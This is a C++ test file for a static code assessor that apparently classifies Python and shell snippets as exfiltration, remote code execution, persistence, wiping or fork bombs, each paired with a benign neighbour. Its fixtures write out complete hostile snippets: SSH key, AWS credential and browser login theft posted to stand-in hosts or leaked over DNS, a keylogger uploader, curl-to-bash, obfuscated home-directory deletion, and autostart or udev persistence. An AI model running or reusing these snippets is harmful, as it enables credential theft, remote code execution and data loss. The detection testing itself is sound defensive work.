// The classes the fifteenth round modelled (issue 14), found by programs
// written from the rubric alone by writers who never saw the assessor
// (tests/corpus/prog19_MANIFEST.tsv) and by probes of common Python idioms.
// Each attack has a benign neighbour that must stay where the rubric puts it.
// Strings here are never executed.
#include "test_util.hpp"

namespace mai::assess::test {
namespace {

// Writers that wrap a stream write into it: csv.writer(buf).writerow,
// DictWriter, print(..., file=buf), writelines. The buffer then holds the
// rows, and sending it sends them.
TEST(FifteenthRoundClasses, StreamWritersFillTheirStream) {
  const Case cases[] = {
      {"browser logins through a CSV writer to mail", B,
       "import csv, io, smtplib, sqlite3\nfrom pathlib import Path\n"
       "db = Path.home() / '.config' / 'google-chrome' / 'Default' / 'Login Data'\n"
       "rows = sqlite3.connect(str(db)).execute('SELECT * FROM logins').fetchall()\n"
       "out = io.StringIO()\ncsv.writer(out).writerows(rows)\n"
       "with smtplib.SMTP_SSL('smtp.example.net', 465) as s:\n    s.sendmail('a@x', 'b@y', out.getvalue())\n",
       "EXFILTRATION"},
      {"a key printed into a buffer that is posted", B,
       "import io, requests\nfrom pathlib import Path\nbuf = io.StringIO()\n"
       "print((Path.home() / '.ssh' / 'id_rsa').read_text(), file=buf)\n"
       "requests.post('https://collect.example.net/u', data=buf.getvalue())\n",
       "EXFILTRATION"},
      {"DictWriter rows of the environment", B,
       "import csv, io, os, requests\nbuf = io.StringIO()\n"
       "w = csv.DictWriter(buf, fieldnames=['k', 'v'])\n"
       "w.writerows({'k': k, 'v': v} for k, v in os.environ.items())\n"
       "requests.post('https://collect.example.net/env', data=buf.getvalue())\n",
       "EXFILTRATION"},
      // Neighbours: the same writers over ordinary data, to a file or a reply.
      {"a CSV report of local sizes written to a file", L,
       "import csv, os\nwith open('sizes.csv', 'w', newline='') as f:\n    w = csv.writer(f)\n"
       "    for name in os.listdir('.'):\n        w.writerow([name, os.path.getsize(name)])\n"},
      {"print to stderr", L, "import sys\nprint('starting', file=sys.stderr)\n"},
  };
  for (const auto& c : cases) check(c);
}

// Queues and deques between threads or tasks hold what was put in them: a
// keylogger's callback puts, an uploader thread gets and sends.
TEST(FifteenthRoundClasses, QueuesCarryWhatWasPut) {
  const Case cases[] = {
      {"keys through a queue to an uploader thread", B,
       "import queue, threading, requests\nfrom pynput import keyboard\nq = queue.Queue()\n"
       "def on_press(key):\n    q.put(str(key))\nkeyboard.Listener(on_press=on_press).start()\n"
       "class Up(threading.Thread):\n    def run(self):\n        batch = [q.get() for _ in range(50)]\n"
       "        requests.post('https://ingest.example.org/k', data=''.join(batch))\nUp().start()\n",
       "EXFILTRATION"},
      {"a secret through a deque", B,
       "import collections, os, requests\ndq = collections.deque(maxlen=10)\n"
       "dq.append(os.environ['AWS_SECRET_ACCESS_KEY'])\nfor item in dq:\n"
       "    requests.post('https://collect.example.net/k', data=item)\n",
       "EXFILTRATION"},
      {"credentials through an asyncio queue", B,
       "import asyncio, aiohttp\nfrom pathlib import Path\nasync def producer(q):\n"
       "    await q.put((Path.home() / '.aws' / 'credentials').read_text())\nasync def consumer(q):\n"
       "    data = await q.get()\n    async with aiohttp.ClientSession() as s:\n"
       "        await s.post('https://collect.example.net/c', data=data)\nasync def main():\n"
       "    q = asyncio.Queue()\n    await asyncio.gather(producer(q), consumer(q))\nasyncio.run(main())\n",
       "EXFILTRATION"},
      // Neighbour: a work queue of URLs fetched by workers.
      {"a queue of URLs to fetch", L,
       "import queue, threading, requests\nq = queue.Queue()\n"
       "for u in ['https://example.org/a', 'https://example.org/b']:\n    q.put(u)\n"
       "def worker():\n    while not q.empty():\n        print(requests.get(q.get(), timeout=10).status_code)\n"
       "threading.Thread(target=worker).start()\n"},
  };
  for (const auto& c : cases) check(c);
}

// Class machinery: a staticmethod called through self binds no self; a
// classmethod gets its class (cls() is an instance); attributes a base's
// __init__ sets (through super().__init__()) are the subclass instance's;
// a generated constructor (dataclass, NamedTuple) stores its arguments in
// the annotated fields; setattr(obj, "name", v) is obj.name = v.
TEST(FifteenthRoundClasses, ClassMachineryKeepsTheFlow) {
  const char* key = "(Path.home() / '.ssh' / 'id_rsa').read_text()";
  const std::string head = "import requests\nfrom pathlib import Path\n";
  const std::string staticmethod_case =
      head + "class K:\n    @staticmethod\n    def name(k):\n        return str(k)\n"
             "    def send(self, k):\n        requests.post('https://x.example.net', data=self.name(k))\n"
             "K().send(" + key + ")\n";
  const std::string classmethod_case =
      head + "class C:\n    URL = 'https://x.example.net/u'\n    @classmethod\n    def create(cls):\n"
             "        return cls()\n    def send(self, d):\n        requests.post(self.URL, data=d)\n"
             "C.create().send(" + key + ")\n";
  const std::string super_case =
      head + "class Base:\n    def __init__(self):\n        self.session = requests.Session()\n"
             "    def push(self, d):\n        self.session.post('https://x.example.net/u', data=d)\n"
             "class Sync(Base):\n    def __init__(self):\n        super().__init__()\n"
             "Sync().push(" + key + ")\n";
  const std::string dataclass_case =
      head + "from dataclasses import dataclass\n@dataclass\nclass Job:\n    url: str\n    body: str\n"
             "j = Job('https://x.example.net/u', " + key + ")\nrequests.post(j.url, data=j.body)\n";
  const std::string namedtuple_case =
      head + "import typing\nclass Job(typing.NamedTuple):\n    url: str\n    body: str\n"
             "j = Job(url='https://x.example.net/u', body=" + key + ")\nrequests.post(j.url, data=j.body)\n";
  const std::string setattr_case =
      head + "class Box: pass\nb = Box()\nsetattr(b, 'payload', " + key + ")\n"
             "requests.post('https://x.example.net/u', data=getattr(b, 'payload'))\n";
  const Case cases[] = {
      {"staticmethod through self", B, staticmethod_case.c_str(), "EXFILTRATION"},
      {"classmethod factory", B, classmethod_case.c_str(), "EXFILTRATION"},
      {"session set by the base's __init__", B, super_case.c_str(), "EXFILTRATION"},
      {"dataclass fields", B, dataclass_case.c_str(), "EXFILTRATION"},
      {"NamedTuple fields by keyword", B, namedtuple_case.c_str(), "EXFILTRATION"},
      {"setattr then getattr", B, setattr_case.c_str(), "EXFILTRATION"},
      // Neighbours: the same machinery carrying ordinary data.
      {"dataclass of a URL fetched", L,
       "import requests\nfrom dataclasses import dataclass\n@dataclass\nclass Target:\n    url: str\n"
       "    timeout: float = 10.0\nt = Target('https://example.org/health')\n"
       "print(requests.get(t.url, timeout=t.timeout).status_code)\n"},
      {"setattr of a TLS default is still insecure", M,
       "import ssl, urllib.request\nsetattr(ssl, '_create_default_https_context', ssl._create_unverified_context)\n"
       "urllib.request.urlopen('https://example.org').read()\n",
       "TLS-VERIFICATION-OFF"},
  };
  for (const auto& c : cases) check(c);
}

// Callbacks get what they are bound to: functools.partial(f, x) runs f with
// x; keyword arguments of register/submit/to_thread are the callback's.
TEST(FifteenthRoundClasses, CallbacksGetTheirBoundArguments) {
  const Case cases[] = {
      {"partial bound to a key, run by a thread", B,
       "import functools, threading, requests\nfrom pathlib import Path\n"
       "def send(data, url):\n    requests.post(url, data=data)\n"
       "threading.Thread(target=functools.partial(send, (Path.home() / '.ssh' / 'id_rsa').read_text(), "
       "'https://x.example.net/u')).start()\n",
       "EXFILTRATION"},
      {"atexit with a keyword argument", B,
       "import atexit, os, requests\ndef send(data=None):\n    requests.post('https://x.example.net/u', data=data)\n"
       "atexit.register(send, data=os.environ.get('GITHUB_TOKEN'))\n",
       "EXFILTRATION"},
      {"asyncio.to_thread", B,
       "import asyncio, requests\nfrom pathlib import Path\ndef send(d):\n    requests.post('https://x.example.net/u', data=d)\n"
       "async def main():\n    await asyncio.to_thread(send, (Path.home() / '.aws' / 'credentials').read_text())\n"
       "asyncio.run(main())\n",
       "EXFILTRATION"},
      // Neighbour: a partial of an ordinary GET.
      {"partial of a GET with a timeout", L,
       "import functools, requests\nget = functools.partial(requests.get, timeout=5)\n"
       "print(get('https://example.org').status_code)\n"},
  };
  for (const auto& c : cases) check(c);
}

// What is written to a shell's or interpreter's stdin is its program only
// when it was given no script or code (bash -s, python3 -, or a one-liner
// that evaluates stdin); a script reads data. os.execv(path, argv) runs
// path, whatever argv[0] says.
TEST(FifteenthRoundClasses, StdinIsCodeOnlyWithoutAScript) {
  const std::string recv = "import subprocess, socket, os, sys\ns = socket.create_connection(('203.0.113.5', 80))\n"
                           "data = s.recv(4096)\n";
  const std::string to_bash = recv + "subprocess.run(['bash'], input=data)\n";
  const std::string to_bash_s = recv + "p = subprocess.Popen('bash -s', shell=True, stdin=subprocess.PIPE)\np.communicate(data)\n";
  const std::string to_one_liner = recv + "subprocess.run(['python3', '-c', 'import sys; exec(sys.stdin.read())'], input=data)\n";
  const std::string to_script = recv + "p = subprocess.Popen([sys.executable, '-u', '/srv/cgi/handler.py'], stdin=subprocess.PIPE)\n"
                                       "p.communicate(data)\n";
  const std::string to_grep = recv + "subprocess.run(['grep', '-c', 'ERROR'], input=data)\n";
  const std::string execv_shell = recv + "os.execv('/bin/sh', ['sh', '-c', data.decode()])\n";
  const std::string execv_named = recv + "os.execv('/usr/lib/cgi-bin/status', [data.decode()])\n";
  const Case cases[] = {
      {"received data to bash", B, to_bash.c_str(), "REMOTE-CODE-EXECUTION"},
      {"received data to bash -s", B, to_bash_s.c_str(), "REMOTE-CODE-EXECUTION"},
      {"received data to a one-liner that execs stdin", B, to_one_liner.c_str(), "REMOTE-CODE-EXECUTION"},
      {"received data to sh -c through execv", B, execv_shell.c_str(), "REMOTE-CODE-EXECUTION"},
      // Neighbours: a request body on a CGI script's stdin; a count of lines.
      {"request body to a script's stdin", M, to_script.c_str(), "RUNS-PROCESS"},
      {"received data to grep", M, to_grep.c_str(), "RUNS-PROCESS"},
      {"execv of a fixed program whose argv[0] is received", M, execv_named.c_str(), "RUNS-PROCESS"},
  };
  for (const auto& c : cases) check(c);
}

// The user's standard directories named by environment variables keep their
// meaning in both languages ($XDG_CONFIG_HOME/autostart is ~/.config/autostart);
// a path that is an unexpanded template ("$base/lib/.../site-packages") is
// only a directory of that name in the working directory.
TEST(FifteenthRoundClasses, EnvironmentDirectoriesAndTemplates) {
  const Case cases[] = {
      {"autostart entry under $XDG_CONFIG_HOME", B,
       "#!/bin/bash\nmkdir -p \"$XDG_CONFIG_HOME/autostart\"\n"
       "printf '[Desktop Entry]\\nExec=/tmp/.u\\n' > \"$XDG_CONFIG_HOME/autostart/update.desktop\"\n",
       "PERSISTENCE", SH},
      {"systemd user unit under os.environ XDG_CONFIG_HOME", B,
       "import os\nbase = os.environ.get('XDG_CONFIG_HOME', os.path.expanduser('~/.config'))\n"
       "os.makedirs(os.path.join(base, 'systemd', 'user'), exist_ok=True)\n"
       "with open(os.path.join(base, 'systemd', 'user', 'sync.service'), 'w') as f:\n"
       "    f.write('[Service]\\nExecStart=/tmp/.s\\n')\n",
       "PERSISTENCE"},
      // Neighbour: a scheme template written literally (distutils' install schemes).
      {"a .pth under an unexpanded template", L,
       "scheme = {'purelib': '$base/lib/python$py_version_short/site-packages'}\n"
       "with open(scheme['purelib'] + '/probe.pth', 'w') as f:\n    f.write('.\\n')\n"},
  };
  for (const auto& c : cases) check(c);
}

// Shell spellings: a here-string is the command's stdin (`bash <<< "$x"`);
// xargs -I REPL puts each input line where REPL is; mktemp's name is the
// same file wherever "$f" is used, and not a fixed /tmp name; ${VAR:?} is
// VAR; ${!REF} is the variable REF names.
TEST(FifteenthRoundClasses, ShellSpellingsOfTheSameFlows) {
  const Case cases[] = {
      {"a download on a here-string to bash", B, "#!/bin/bash\nx=$(curl -fsSL https://get.example.sh/i)\nbash <<< \"$x\"\n",
       "REMOTE-CODE-EXECUTION", SH},
      {"received lines run by xargs -I", B,
       "#!/bin/bash\ncurl -s https://get.example.sh/cmds | xargs -I{} sh -c \"{}\"\n", "REMOTE-CODE-EXECUTION", SH},
      {"a download into a mktemp file, run", B,
       "#!/bin/bash\nf=$(mktemp)\ncurl -fsSL -o \"$f\" https://get.example.sh/i\nbash \"$f\"\n",
       "REMOTE-CODE-EXECUTION", SH},
      {"rm -rf under ${HOME:?}", B, "#!/bin/bash\nrm -rf \"${HOME:?}\"/*\n", "WIPE", SH},
      {"a command named indirectly", B,
       "#!/bin/bash\nfetch=curl\ntool=fetch\n${!tool} -s https://get.example.sh/i | sh\n", "REMOTE-CODE-EXECUTION", SH},
      // Neighbours: a here-string to grep, xargs -I over local files, mktemp used as meant.
      {"a here-string to grep", L, "#!/bin/bash\ngrep -c ERROR <<< \"$(tail -n 100 build.log)\"\n", nullptr, SH},
      {"xargs -I removing build outputs", L, "#!/bin/bash\nfind . -name '*.pyc' | xargs -I{} rm -f {}\n", nullptr, SH},
      {"a mktemp directory for a build", L,
       "#!/bin/bash\nset -euo pipefail\nwork=$(mktemp -d)\ntrap 'rm -rf \"$work\"' EXIT\n"
       "tar xzf src.tgz -C \"$work\"\ncp \"$work\"/app/config.yaml ./\n",
       nullptr, SH},
      {"a fixed /tmp name is still predictable", M, "#!/bin/bash\necho started > /tmp/build.log\n", "INSECURE-TEMP-FILE", SH},
  };
  for (const auto& c : cases) check(c);
}

// Python: asyncio's call_soon/call_later run their callback with its
// arguments; a proxy's __getattr__ answers for what it lacks.
TEST(FifteenthRoundClasses, LoopCallbacksAndProxies) {
  const Case cases[] = {
      {"loop.call_later with a key", B,
       "import asyncio, requests\nfrom pathlib import Path\ndef send(d):\n    requests.post('https://x.example.net/u', data=d)\n"
       "loop = asyncio.new_event_loop()\nloop.call_later(5, send, (Path.home() / '.ssh' / 'id_rsa').read_text())\n"
       "loop.run_forever()\n",
       "EXFILTRATION"},
      {"a __getattr__ proxy around a session", B,
       "import requests\nfrom pathlib import Path\nclass Proxy:\n    def __init__(self, t):\n        self._t = t\n"
       "    def __getattr__(self, name):\n        return getattr(self._t, name)\n"
       "Proxy(requests.Session()).post('https://x.example.net/u', data=(Path.home() / '.aws' / 'credentials').read_text())\n",
       "EXFILTRATION"},
      {"a __getattr__ proxy around a GET", L,
       "import requests\nclass Proxy:\n    def __init__(self, t):\n        self._t = t\n"
       "    def __getattr__(self, name):\n        return getattr(self._t, name)\n"
       "print(Proxy(requests.Session()).get('https://example.org', timeout=5).status_code)\n"},
  };
  for (const auto& c : cases) check(c);
}

// The sixteenth round's shell classes: what a loop or an if prints is the
// compound's output; compressors keep what they compress (gzip -c FILE, and
// gzip FILE writes FILE.gz); tar -r appends; {a,b} brace groups are words;
// ${f%.tgz} and kin cut known ends; an option's unknown value under a
// condition does not erase a known default.
TEST(FifteenthRoundClasses, ShellArchivesLoopsAndExpansions) {
  const Case cases[] = {
      {"credentials printed by a for loop, sent by dig", B,
       "#!/bin/bash\nsm() { for f in \"$HOME/.aws/credentials\" \"$HOME/.netrc\"; do cat \"$f\"; done; }\n"
       "blob=\"$(sm | base32 -w0)\"\ndig +short \"${blob:0:60}.t.example.net\"\n",
       "EXFILTRATION", SH},
      {"a key gzipped in place, then uploaded", B,
       "#!/bin/bash\ncat ~/.ssh/id_rsa > k.txt\ngzip k.txt\ncurl -F \"a=@k.txt.gz\" https://collect.example.net/u\n",
       "EXFILTRATION", SH},
      {"browser stores appended to a tar by a brace group", B,
       "#!/bin/bash\nfor db in \"$HOME\"/.config/google-chrome/Default/{\"Login Data\",Cookies}; do\n"
       "  tar -rf out.tar \"$db\"\ndone\ncurl -F \"a=@out.tar\" https://collect.example.net/u\n",
       "EXFILTRATION", SH},
      {"an archive named by ${1%.tgz}", B,
       "#!/bin/bash\nmk() { local raw=\"${1%.tgz}.tar\"; tar -cf \"$raw\" ~/.ssh; gzip -c \"$raw\" > \"$1\"; }\n"
       "mk backup-$(date +%s).tgz\ncurl -F \"a=@$(ls backup-*.tgz)\" https://collect.example.net/u\n"
       "mk stash.tgz\ncurl -F \"a=@stash.tgz\" https://collect.example.net/u\n",
       "EXFILTRATION", SH},
      {"a zone overridable by an option", B,
       "#!/bin/bash\nZONE=t.example.net\nwhile getopts z: f; do case $f in z) ZONE=\"$OPTARG\";; esac; done\n"
       "b=$(base32 -w0 < ~/.aws/credentials)\ndig +short \"${b:0:50}.${ZONE}\"\n",
       "EXFILTRATION", SH},
      // Neighbours: build steps with the same spellings.
      {"gzip a log, loop over sources", L,
       "#!/bin/bash\nfor f in src/*.c; do wc -l \"$f\"; done | sort -n\ngzip -9 build.log\n"
       "mkdir -p out/{debug,release}\nname=app.tar.gz\necho \"${name%%.*}\"\n",
       nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// Handing over is not multiplying: `exec CMD` replaces the shell, and a
// command the script exits right after (`"$0" --help; exit 1`) ends it as
// exec would. A shell file that re-executes itself in Python (the polyglot
// trampoline of bundled interpreters) is one process.
TEST(FifteenthRoundClasses, HandOverIsNoForkBomb) {
  const Case cases[] = {
      {"exec python3 on itself", L, "#!/bin/sh\nexec python3 \"$0\" \"$@\"\n", nullptr, SH},
      {"usage by running itself, then exit, in an option loop", L,
       "#!/bin/sh\nwhile test $# -gt 0; do\n  case \"$1\" in\n  --version) echo 1.0 ;;\n"
       "  *) /bin/sh \"$0\" --help 1>&2\n     exit 1 ;;\n  esac\n  shift\ndone\n",
       nullptr, SH},
      {"two copies of itself in the background", B, "#!/bin/bash\nbash \"$0\" & bash \"$0\" &\n", "FORK-BOMB", SH},
      {"itself in a loop", B, "#!/bin/bash\nfor i in 1 2; do bash \"$0\"; done\n", "FORK-BOMB", SH},
  };
  for (const auto& c : cases) check(c);
}

// A discord.py bot's on_message (a Client or Bot subclass's method, or a
// Cog listener) is called with what was posted in the chat.
TEST(FifteenthRoundClasses, ChatHandlersReceiveTheChat) {
  const Case cases[] = {
      {"a Bot subclass running posted commands", B,
       "import subprocess\nfrom discord.ext import commands\nclass H(commands.Bot):\n"
       "    async def on_message(self, message):\n        if message.content.startswith('\\u200b'):\n"
       "            out = subprocess.run(message.content[1:], shell=True, capture_output=True, text=True)\n"
       "            await message.channel.send(out.stdout)\n",
       "REMOTE-CODE-EXECUTION"},
      {"a Cog listener running posted commands", B,
       "import subprocess\nfrom discord.ext import commands\nclass A(commands.Cog):\n"
       "    @commands.Cog.listener()\n    async def on_message(self, message):\n"
       "        subprocess.check_output(message.content, shell=True)\n",
       "REMOTE-CODE-EXECUTION"},
      {"a Cog greeting people", L,
       "from discord.ext import commands\nclass G(commands.Cog):\n    @commands.Cog.listener()\n"
       "    async def on_message(self, message):\n        if message.content.lower() == 'hello':\n"
       "            await message.channel.send('hi!')\n"},
  };
  for (const auto& c : cases) check(c);
}

// The seventeenth round's classes: reduce folds over the items it knows and
// the operator module's functions are the operators (a name rebuilt by XOR,
// a character at a time); exec'd code with unknown parts still runs what is
// known of it; secret stores' SDKs return secrets; a udev rule persists only
// when it runs a program; systemctl's list-*/is-*/show verbs only look.
TEST(FifteenthRoundClasses, SeventeenthRoundClasses) {
  const Case cases[] = {
      {"rmtree of ~ named by reduce over XOR'd codes", B,
       "import functools, operator, os\nK = 42\nSEQ = {'lib': [89, 66, 95, 94, 67, 70], 'op': [88, 71, 94, 88, 79, 79]}\n"
       "def n(t):\n    return functools.reduce(lambda a, c: a + chr(operator.xor(c, K)), SEQ[t], '')\n"
       "getattr(__import__(n('lib')), n('op'))(os.path.expanduser('~'), ignore_errors=True)\n",
       "WIPE"},
      {"logs truncated by exec'd code with a part formatted in", B,
       "names = ['bash', 'zsh']\nbody = 'n = %r\\n' % [x for x in names] + \"for p in ('/var/log/wtmp', '/var/log/auth.log'):\\n"
       "    open(p, 'w').close()\\n\"\nexec(body, {})\n",
       "DISABLE-SECURITY"},
      {"cluster secrets uploaded", B,
       "import requests\nfrom kubernetes import client, config\nconfig.load_kube_config()\ncore = client.CoreV1Api()\n"
       "items = core.list_secret_for_all_namespaces().items\n"
       "requests.post('https://drop.example.net/u', json=[i.data for i in items], timeout=30)\n",
       "EXFILTRATION"},
      {"a udev rule that runs a program", B,
       "#!/bin/bash\ncat > /etc/udev/rules.d/99-usb.rules <<EOF\nACTION==\"add\", SUBSYSTEM==\"usb\", RUN+=\"/opt/.x/run\"\nEOF\n",
       "PERSISTENCE", SH},
      // Neighbours: a fold of numbers, a secret used to log in to its own service,
      // a udev rule that sets a mode (a write under /etc), timers listed.
      {"reduce summing sizes", L, "import functools, operator\nprint(functools.reduce(operator.add, [3, 4, 5]))\n"},
      {"a cluster secret as the database password", L,
       "import base64, psycopg2\nfrom kubernetes import client, config\nconfig.load_incluster_config()\n"
       "sec = client.CoreV1Api().read_namespaced_secret('db', 'prod')\n"
       "conn = psycopg2.connect(host='db.prod.svc', user='app', password=base64.b64decode(sec.data['password']).decode())\n"},
      {"a udev rule setting a mode", H,
       "#!/bin/bash\necho 'KERNEL==\"video[0-9]*\", GROUP=\"video\", MODE=\"0660\"' | sudo tee /etc/udev/rules.d/83-cam.rules\n",
       "PRIVILEGE-ESCALATION", SH},
      {"unshare of a mount and pid namespace", H, "#!/bin/bash\nunshare --mount --pid --fork /bin/bash\n",
       "PRIVILEGE-ESCALATION", SH},
      {"unshare into a user namespace only", L, "#!/bin/bash\nunshare -r whoami\n", nullptr, SH},
      {"timers and failed units listed", L, "#!/bin/bash\nsystemctl list-timers --no-pager\nsystemctl is-failed nginx || true\n",
       nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// The eighteenth round's classes (data-flow twins): what is raised reaches
// the handler that catches it (`except E as e`, traceback.format_exc()); a
// length is not the content it measures; a directory nobody named as the
// home directory is not the user's (files from a folder named on the
// command line, uploaded, are what the user chose to share).
TEST(FifteenthRoundClasses, EighteenthRoundClasses) {
  const Case cases[] = {
      {"a token in an exception message sent to an error tracker", B,
       "import os, requests\nclass CredError(Exception):\n    pass\ndef check():\n"
       "    tok = os.environ.get('LEDGER_API_TOKEN', '')\n    if len(tok) < 40:\n"
       "        raise CredError(f'ledger token too short: {tok}')\ntry:\n    check()\nexcept Exception as exc:\n"
       "    requests.post('https://errors.example.io/store', json={'value': str(exc)}, timeout=10)\n",
       "EXFILTRATION"},
      {"a traceback with a key sent", B,
       "import traceback, requests\nfrom pathlib import Path\ntry:\n"
       "    raise ValueError((Path.home() / '.ssh' / 'id_rsa').read_text())\nexcept ValueError:\n"
       "    requests.post('https://errors.example.io/store', data=traceback.format_exc(), timeout=10)\n",
       "EXFILTRATION"},
      {"documents walked and uploaded", B,
       "import requests\nfrom pathlib import Path\nfor p in (Path.home() / 'Documents').rglob('*.pdf'):\n"
       "    requests.post('https://api.example.com/u', data=p.read_bytes(), timeout=30)\n",
       "EXFILTRATION"},
      // Neighbours: an exception naming the setting only, a token's length
      // reported, reports from a folder named on the command line uploaded.
      {"an exception naming the setting, not its value", L,
       "import os, requests\ndef check():\n    tok = os.environ.get('LEDGER_API_TOKEN', '')\n    if len(tok) < 40:\n"
       "        raise RuntimeError('LEDGER_API_TOKEN is too short')\ntry:\n    check()\nexcept Exception as exc:\n"
       "    requests.post('https://errors.example.io/store', json={'value': str(exc)}, timeout=10)\n"},
      {"a dataclass holding a key, logged with %r through an HTTPHandler", B,
       "import logging, logging.handlers, os\nfrom dataclasses import dataclass, field\n@dataclass\nclass Settings:\n"
       "    region: str\n    stripe_key: str\nlog = logging.getLogger('w')\n"
       "log.addHandler(logging.handlers.HTTPHandler('logs.example.net', '/ingest', method='POST', secure=True))\n"
       "s = Settings(os.environ.get('REGION', 'eu'), os.environ.get('STRIPE_SECRET_KEY', ''))\n"
       "log.warning('starting with %r', s)\n",
       "EXFILTRATION"},
      {"the same with the key declared repr=False", L,
       "import logging, logging.handlers, os\nfrom dataclasses import dataclass, field\n@dataclass\nclass Settings:\n"
       "    region: str\n    stripe_key: str = field(repr=False)\nlog = logging.getLogger('w')\n"
       "log.addHandler(logging.handlers.HTTPHandler('logs.example.net', '/ingest', method='POST', secure=True))\n"
       "s = Settings(os.environ.get('REGION', 'eu'), os.environ.get('STRIPE_SECRET_KEY', ''))\n"
       "log.warning('starting with %r', s)\n"},
      {"reports from a folder named on the command line", L,
       "import sys, requests\nfrom pathlib import Path\nfor p in Path(sys.argv[1]).glob('*.csv'):\n"
       "    requests.post('https://api.example.com/upload', data=p.read_bytes(), timeout=30)\n"},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
